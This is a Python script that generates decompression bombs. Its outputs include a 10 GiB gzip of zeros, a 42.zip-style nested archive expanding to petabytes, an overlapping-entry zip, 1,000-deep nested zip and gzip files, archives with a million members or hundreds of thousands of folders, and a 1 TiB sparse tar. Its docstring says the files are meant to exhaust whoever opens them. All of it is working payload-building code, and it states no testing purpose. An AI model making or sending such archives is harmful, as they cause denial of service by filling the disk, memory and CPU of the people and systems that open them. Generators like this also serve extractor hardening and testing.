#!/usr/bin/env python3
"""Makes archives that are out to exhaust whoever opens them.

    make-bombs.py FOLDER [NAME…]

zeros.gz      10 GiB of zeros in 10 MiB
levels.zip    six levels of sixteen archives each, 4 GiB of zeros in every last one: 4.5 PB (as 42.zip)
overlap.zip   60,000 names in the directory for one and the same content of 20 MiB (after D. Fifield, "A better zip bomb")
deep.zip      1,000 archives inside each other
deep.gz       1,000 times compressed
members.zip   1,000,000 members of one byte
folders.tar   300,000 folders without a content
folders.tgz   1,200,000 folders, 614 MB of tar in a few
sparse.tar    a content of 1 TiB that is a hole"""
import gzip
import io
import pathlib
import struct
import sys
import tarfile
import zlib

MIB = 1 << 20


def zeros(mib):
    """Deflated zeros, one block repeated: (bytes, CRC)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(16 * MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (mib // 16) + packer.flush(), crc_of_zeros(mib * MIB)


def crc_of_zeros(size):
    """The CRC-32 of so many zeros, by doubling (as zlib's crc32_combine does)."""
    crc = 0xffffffff  # the register, not inverted
    # One zero byte is a linear map of the register: as a matrix of 32 columns.
    table = [int(zlib.crc32(bytes([i])) ^ zlib.crc32(b"\0")) for i in range(256)]
    step = lambda r: (r >> 8) ^ table[r & 0xff]
    matrix = [step(1 << i) for i in range(32)]

    def apply(m, v):
        out, i = 0, 0
        while v:
            if v & 1:
                out ^= m[i]
            v >>= 1
            i += 1
        return out

    while size:
        if size & 1:
            crc = apply(matrix, crc)
        matrix = [apply(matrix, column) for column in matrix]
        size >>= 1
    return crc ^ 0xffffffff


def entry(name, packed, crc, size, offset, method=8):
    big = size > 0xfffffffe
    extra = struct.pack("<2H2Q", 1, 16, size, len(packed)) if big else b""
    fields = (crc, 0xffffffff if big else len(packed), 0xffffffff if big else size, len(name), len(extra))
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 45, 0, method, 0, 0x21, *fields) + name + extra
    central = struct.pack("<4s6H3I5H2I", b"PK\1\2", 45, 45, 0, method, 0, 0x21, *fields, 0, 0, 0, 0, offset) + name + extra
    return local, central


def end(count, size, offset):
    data = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    data += struct.pack("<4sIQI", b"PK\6\7", 0, offset + size, 1)
    return data + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, min(count, 0xffff), min(count, 0xffff), size, offset, 0)


def archive(names, packed, crc, size, method=8):
    out, index = io.BytesIO(), []
    for name in names:
        local, central = entry(name, packed, crc, size, out.tell(), method)
        out.write(local + packed)
        index.append(central)
    at, index = out.tell(), b"".join(index)
    out.write(index + end(len(names), len(index), at))
    return out.getvalue()


def deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def zeros_gz():
    packed, crc = zeros(1024)
    part = b"\x1f\x8b\x08\0\0\0\0\0\2\3" + packed + struct.pack("<2I", crc, 1024 * MIB & 0xffffffff)
    return part * 10


def levels_zip():
    packed, crc = zeros(4096)
    data = archive([b"0.dll"], packed, crc, 4096 * MIB)
    for letter in b"pdcbal":
        data = archive([b"lib %c%x.zip" % (letter, i) for i in range(16)], deflate(data), zlib.crc32(data), len(data))
    return data


def overlap_zip():
    packed, crc = zeros(32)
    local, _ = entry(b"one", packed, crc, 32 * MIB, 0)
    index = b"".join(entry(b"%05d" % i, packed, crc, 32 * MIB, 0)[1] for i in range(60000))
    return local + packed + index + end(60000, len(index), len(local) + len(packed))


def deep_zip():
    data = b"the innermost\n"
    for i in range(1000):
        data = archive([b"%d.zip" % (999 - i)], deflate(data), zlib.crc32(data), len(data))
    return data


def deep_gz():
    data = b"the innermost\n"
    for _ in range(1000):
        data = gzip.compress(data, mtime=0)
    return data


def members_zip():
    return archive([b"%06d" % i for i in range(1000000)], b"x", zlib.crc32(b"x"), 1, 0)


def folders(count):
    header = bytearray(tarfile.TarInfo("0000000").tobuf(tarfile.USTAR_FORMAT))
    header[156:157] = b"5"
    header[148:156] = b" " * 8
    header[0:7] = b"\0" * 7
    base = sum(header)
    for i in range(count):
        name = b"%07d" % i
        header[0:7] = name
        header[148:156] = b"%06o\0 " % (base + sum(name))
        yield bytes(header)
    yield bytes(1024)


def folders_tar():
    return b"".join(folders(300000))


def folders_tgz():
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    return b"".join(packer.compress(part) for part in folders(1200000)) + packer.flush()


def sparse_tar():
    size = 1 << 40
    info = tarfile.TarInfo("hole")
    info.size = 0
    info.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.name": "hole", "GNU.sparse.size": str(size),
                        "GNU.sparse.numblocks": "1", "GNU.sparse.map": "%d,0" % size}
    return info.tobuf(tarfile.PAX_FORMAT) + bytes(1024)


MAKERS = {"zeros.gz": zeros_gz, "levels.zip": levels_zip, "overlap.zip": overlap_zip, "deep.zip": deep_zip, "deep.gz": deep_gz,
          "members.zip": members_zip, "folders.tar": folders_tar, "folders.tgz": folders_tgz, "sparse.tar": sparse_tar}

folder = pathlib.Path(sys.argv[1])
folder.mkdir(exist_ok=True)
for name in sys.argv[2:] or MAKERS:
    (folder / name).write_bytes(MAKERS[name]())
